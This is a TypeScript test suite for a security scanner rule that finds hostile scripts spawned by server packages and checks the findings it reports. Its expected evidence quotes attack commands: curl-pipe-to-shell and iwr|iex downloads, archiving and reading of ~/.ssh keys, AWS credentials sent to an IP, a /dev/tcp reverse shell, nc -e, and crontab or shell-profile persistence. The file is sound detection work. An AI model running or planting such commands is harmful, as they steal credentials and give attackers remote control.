import { describe, expect, it } from 'vitest';
import rule from '../../rules/code-script.js';
import type { ScriptSite } from '../../src/analysis/model/code-facts.js';
import { bundleFacts, runRule } from '../helpers/bundle.js';
import { findingsOf, findingWith, scanFixture } from '../helpers/fixtures.js';

const RULE = 'code-script';
const DIR = `fixtures/rules/${RULE}`;

describe(RULE, () => {
  it('reports what a spawned script does, at its severity, with the trigger of the call that starts it', async () => {
    const bundle = await scanFixture(`${DIR}/invalid`);
    const findings = findingsOf(bundle, RULE);
    expect(findings.map((finding) => [finding.severity, finding.location.file, 'line' in finding.location ? finding.location.line : 0])).toEqual([
      ['critical', 'server/scripts/setup.sh', 7],
      ['high', 'server/scripts/lib.sh', 2],
      ['high', 'server/scripts/setup.sh', 5],
      ['high', 'server/scripts/setup.sh', 6],
    ]);
    expect(findingWith(bundle, RULE, 'The script server/scripts/setup.sh downloads code and runs it: curl … | sh; it is started by child_process.spawn() in server/index.js:6, as soon as the server loads.')).toMatchObject({
      category: 'shell-exec',
      origin: 'first-party',
      location: { file: 'server/scripts/setup.sh', line: 7, column: 1 },
      evidence: 'curl -fsSL https://notes-sync.example.net/agent.sh | sh',
      trigger: { kind: 'load', via: ['server/index.js'] },
    });
    expect(findingWith(bundle, RULE, 'setup.sh reads credentials: SSH keys read by tar (~/.ssh)')).toMatchObject({ severity: 'high', evidence: 'tar czf /tmp/.n.tgz ~/.ssh 2>/dev/null' });
    // Sourced by the script the tool spawns: the tool's trigger, through the script.
    expect(findingWith(bundle, RULE, 'The script server/scripts/lib.sh sets up a program to start again at login or boot: crontab installed')).toMatchObject({
      message: expect.stringContaining('it is started by the script server/scripts/sync.sh, from tool "sync_notes".'),
      tool: 'sync_notes',
      trigger: { kind: 'tool', name: 'sync_notes' },
    });
    expect(bundle.capabilities).toContain('shell');
    expect(bundle.complete).toBe(true);
  });

  it('follows the launch command of every platform to the script it runs', async () => {
    const bundle = await scanFixture(`${DIR}/invalid-manifest`);
    expect(findingWith(bundle, RULE, "The script server/start.ps1 downloads code and runs it: iwr … | iex; it is started by the manifest's launch command, as soon as the server loads.")).toMatchObject({
      severity: 'critical',
      location: { file: 'server/start.ps1', line: 2, column: 1 },
      trigger: { kind: 'load', via: ['server/start.ps1'] },
    });
    expect(findingWith(bundle, RULE, 'The script server/start.sh sets up a program to start again at login or boot: shell start-up files appended to (~/.zshrc)')).toMatchObject({
      severity: 'high',
      location: { line: 2, column: 49 },
    });
  });

  it('follows a Python server\'s subprocess call at import', async () => {
    const bundle = await scanFixture(`${DIR}/invalid-python`);
    expect(findingWith(bundle, RULE, 'The script server/install.sh sends secrets off the machine: AWS credentials sent to 198.51.100.4; it is started by subprocess.run() in server/main.py:9')).toMatchObject({
      severity: 'critical',
      trigger: { kind: 'load', via: ['server/main.py'] },
    });
  });

  it('reports the strong signals of a script nothing starts, low, claiming no capability', async () => {
    const bundle = await scanFixture(`${DIR}/invalid-unreached`);
    const findings = findingsOf(bundle, RULE);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      severity: 'low',
      category: 'supply-chain',
      message: 'The script server/tools/debug gives a remote host a shell on this machine: reverse shell via /dev/tcp/$HOST/4444; nothing the server runs starts it, so the signal is weaker.',
      location: { file: 'server/tools/debug', line: 4, column: 1 },
    });
    expect(findings[0]!.trigger).toBeUndefined();
    expect(bundle.capabilities).toEqual([]);
  });

  it('stays silent on shipped scripts that only build, even when the server spawns them', async () => {
    const bundle = await scanFixture(`${DIR}/valid`);
    expect(findingsOf(bundle, RULE)).toEqual([]);
  });
});

describe('hand-made script facts', () => {
  const site = (over: Partial<ScriptSite>): ScriptSite => ({
    file: 'server/x.sh',
    origin: 'first-party',
    dialect: 'sh',
    starters: [],
    reached: false,
    startedBy: [],
    signals: [],
    severity: 'low',
    programs: [],
    complete: true,
    ...over,
  });
  const run = (scripts: ScriptSite[]) => {
    const facts = bundleFacts({});
    facts.code.scripts = scripts;
    return runRule(rule, facts);
  };
  const signal = { kind: 'credential-read', severity: 'high', detail: 'SSH keys read by cat (~/.ssh/id_rsa)', entry: 'credential-file-read', line: 3, column: 1, excerpt: 'cat ~/.ssh/id_rsa' } as const;

  it('groups repeated signals of a script, and counts the other lines', () => {
    const findings = run([site({ reached: true, starters: [{ kind: 'manifest', file: 'manifest.json' }], signals: [signal, { ...signal, line: 9 }, { ...signal, line: 12 }] })]);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.message).toContain('SSH keys read by cat (~/.ssh/id_rsa) (and 2 more lines); it is started by');
    expect(findings[0]!.location).toEqual({ file: 'server/x.sh', line: 3, column: 1 });
  });

  it('reports medium signals of reached scripts only, and names several starters', () => {
    const privilege = { ...signal, kind: 'privilege', severity: 'medium', detail: 'sudo: runs with administrator rights' } as const;
    const starters = [
      { kind: 'call', file: 'server/a.js', line: 4, column: 1, callee: 'child_process.exec' },
      { kind: 'script', file: 'server/b.sh' },
    ] as const;
    expect(run([site({ signals: [privilege] })])).toEqual([]);
    const findings = run([site({ reached: true, starters: [...starters], startedBy: [{ kind: 'timer', name: 'setInterval' }], signals: [privilege] })]);
    expect(findings[0]).toMatchObject({
      severity: 'medium',
      message: 'The script server/x.sh asks for administrator rights: sudo: runs with administrator rights; it is started by child_process.exec() in server/a.js:4 (and 1 more), on a timer (setInterval).',
      trigger: { kind: 'timer', name: 'setInterval' },
    });
  });

  it('escapes what the script says', () => {
    const findings = run([site({ file: 'server/\u001b[2Jx.sh', signals: [{ ...signal, severity: 'critical', kind: 'reverse-shell', detail: 'nc -e \u001b[31m', excerpt: 'nc -e \u001b[31m' }] })]);
    expect(JSON.stringify(findings)).not.toContain('\u001b');
    expect(findings[0]!.message).toContain('\\u{1B}[2Jx.sh');
  });
});
